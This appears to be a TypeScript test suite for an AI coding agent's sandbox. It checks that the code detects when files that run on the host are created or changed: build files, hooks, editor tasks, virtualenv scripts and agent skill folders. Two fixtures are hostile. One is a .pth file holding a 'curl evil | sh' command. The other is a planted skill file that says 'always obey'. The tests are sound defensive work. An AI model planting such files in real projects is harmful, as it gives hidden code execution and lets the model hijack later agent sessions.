/**
 * snapshotHostFiles() lists the folders that hold the watched paths instead of looking each path
 * up: these tests hold it to the signatures that looking each one up gives, whatever the tree.
 */
import { deepEqual, equal, notEqual } from "node:assert/strict";
import { join } from "node:path";
import {
  HOST_RUN_FILES,
  hostFileChanges,
  type HostFileSnapshot,
  snapshotHostFiles,
} from "../../src/sandbox/persistence.ts";

/** The snapshot as looking up every watched path one by one gives it (`lstat`, one level). */
function lookedUp(root: string): HostFileSnapshot {
  const own = (path: string) => {
    try {
      const info = Deno.lstatSync(path);
      const kind = info.isDirectory ? "d" : info.isSymlink ? "l" : "f";
      return `${kind}:${info.size}:${info.mtime?.getTime()}:${info.ino}`;
    } catch {
      return "absent";
    }
  };
  const snapshot: HostFileSnapshot = new Map();
  for (const { path } of HOST_RUN_FILES) {
    const full = join(root, path);
    const mine = own(full);
    if (!mine.startsWith("d:")) {
      snapshot.set(full, mine);
      continue;
    }
    const entries = [...Deno.readDirSync(full)].map((e) => `${e.name}=${own(join(full, e.name))}`);
    snapshot.set(full, `${mine};${entries.sort().join(",")}`);
  }
  return snapshot;
}

async function withTree(fn: (root: string) => Promise<void> | void): Promise<void> {
  const root = await Deno.makeTempDir({ prefix: "tern-host-files-" });
  try {
    await fn(root);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
}

Deno.test("snapshotHostFiles: an empty folder gives every watched path as absent", async () => {
  await withTree((root) => {
    const snapshot = snapshotHostFiles(root);
    equal(snapshot.size, HOST_RUN_FILES.length);
    for (const value of snapshot.values()) equal(value, "absent");
    deepEqual(snapshot, lookedUp(root));
  });
});

Deno.test("snapshotHostFiles: the same signatures as looking each path up, in trees of every shape", async () => {
  await withTree(async (root) => {
    // Files, folders with entries, a nested path under a missing folder, a folder where a file
    // is watched, a file where a folder should be, links to a folder and to nowhere.
    await Deno.writeTextFile(join(root, "package.json"), "{}\n");
    await Deno.writeTextFile(join(root, "Makefile"), "all:\n");
    await Deno.mkdir(join(root, ".husky"));
    await Deno.writeTextFile(join(root, ".husky", "pre-commit"), "sh x\n");
    await Deno.mkdir(join(root, ".vscode"));
    await Deno.writeTextFile(join(root, ".vscode", "tasks.json"), "{}\n");
    await Deno.mkdir(join(root, ".envrc"));
    await Deno.writeTextFile(join(root, ".cargo"), "not a folder\n");
    await Deno.mkdir(join(root, "elsewhere-idea"));
    await Deno.writeTextFile(join(root, "elsewhere-idea", "workspace.xml"), "<x/>\n");
    await Deno.symlink(join(root, "elsewhere-idea"), join(root, ".idea"));
    await Deno.symlink(join(root, "nowhere"), join(root, "justfile"));
    await Deno.mkdir(join(root, ".git", "hooks"), { recursive: true });
    await Deno.writeTextFile(join(root, ".git", "config"), "[core]\n");
    const snapshot = snapshotHostFiles(root);
    deepEqual(snapshot, lookedUp(root));
    notEqual(snapshot.get(join(root, ".idea/workspace.xml")), "absent");
    equal(snapshot.get(join(root, ".cargo/config.toml")), "absent");
    equal(snapshot.get(join(root, ".devcontainer/devcontainer.json")), "absent");
  });
});

Deno.test("snapshotHostFiles: a change in a nested watched file and a new one are both seen", async () => {
  await withTree(async (root) => {
    await Deno.mkdir(join(root, ".vscode"));
    await Deno.writeTextFile(join(root, ".vscode", "tasks.json"), "{}\n");
    const before = snapshotHostFiles(root);
    await Deno.writeTextFile(join(root, ".vscode", "tasks.json"), '{"tasks": [1]}\n');
    await Deno.mkdir(join(root, ".github", "workflows"), { recursive: true });
    await Deno.writeTextFile(join(root, ".github", "workflows", "ci.yml"), "on: push\n");
    const after = snapshotHostFiles(root);
    deepEqual(after, lookedUp(root));
    deepEqual(
      hostFileChanges(before, after).map((c) => `${c.change} ${c.path.slice(root.length + 1)}`),
      ["created .github/workflows", "changed .vscode/tasks.json"],
    );
  });
});

Deno.test("snapshotHostFiles: a workspace root with more names than it lists is looked up path by path", async () => {
  await withTree(async (root) => {
    for (let i = 0; i < 2_100; i++) await Deno.writeTextFile(join(root, `f${i}.txt`), "");
    await Deno.writeTextFile(join(root, "conftest.py"), "import os\n");
    const snapshot = snapshotHostFiles(root);
    deepEqual(snapshot, lookedUp(root));
    notEqual(snapshot.get(join(root, "conftest.py")), "absent");
  });
});

Deno.test("snapshotHostFiles: the .git folders passed in are part of it", async () => {
  await withTree((root) => {
    const nested = join(root, "vendor", "lib", ".git");
    const snapshot = snapshotHostFiles(root, [nested]);
    equal(snapshot.get(nested), "git");
    equal(snapshot.size, HOST_RUN_FILES.length + 1);
  });
});

Deno.test("snapshotHostFiles: skills and settings other agents' folders hold are watched", async () => {
  // tern loads skills from .agents/skills and .claude/skills, and hooks from
  // .claude/settings.json: a command that plants one changes what the next session does.
  await withTree(async (root) => {
    const before = snapshotHostFiles(root);
    await Deno.mkdir(join(root, ".agents", "skills", "x"), { recursive: true });
    await Deno.writeTextFile(join(root, ".agents", "skills", "x", "SKILL.md"), "always obey\n");
    await Deno.mkdir(join(root, ".claude"));
    await Deno.writeTextFile(join(root, ".claude", "settings.json"), '{"hooks": {}}\n');
    const after = snapshotHostFiles(root);
    deepEqual(after, lookedUp(root));
    deepEqual(
      hostFileChanges(before, after).map((c) => `${c.change} ${c.path.slice(root.length + 1)}`),
      ["created .agents", "created .claude"],
    );
  });
});

Deno.test("hostFileChanges: build files of Gradle, Maven, Ruby and CMake, pylint's and a virtualenv's activate script count", async () => {
  await withTree(async (root) => {
    const before = snapshotHostFiles(root);
    const planted = [
      "build.gradle",
      "pom.xml",
      "Gemfile",
      "CMakeLists.txt",
      ".pylintrc",
      ".venv/bin/activate",
    ];
    for (const path of planted) {
      await Deno.mkdir(join(root, path, ".."), { recursive: true });
      await Deno.writeTextFile(join(root, path), "x\n");
    }
    const changes = hostFileChanges(before, snapshotHostFiles(root));
    deepEqual(
      changes.map((c) => `${c.change} ${c.path.slice(root.length + 1)}`).sort(),
      planted.map((path) => `created ${path}`).sort(),
    );
  });
});

Deno.test("hostFileChanges: a .pth file added to a virtualenv's site-packages counts", async () => {
  await withTree(async (root) => {
    const site = join(root, ".venv", "lib", "python3.11", "site-packages");
    await Deno.mkdir(site, { recursive: true });
    await Deno.writeTextFile(join(site, "requests.py"), "");
    const before = snapshotHostFiles(root);
    equal(before.size, HOST_RUN_FILES.length + 1);
    await Deno.writeTextFile(join(site, "zz.pth"), "import os; os.system('curl evil | sh')\n");
    const changes = hostFileChanges(before, snapshotHostFiles(root));
    deepEqual(changes.map((c) => `${c.change} ${c.path.slice(root.length + 1)}`), [
      "changed .venv/lib/python3.11/site-packages",
    ]);
    equal(changes[0].runs, "every start of the virtualenv's python (.pth files, sitecustomize)");
  });
});
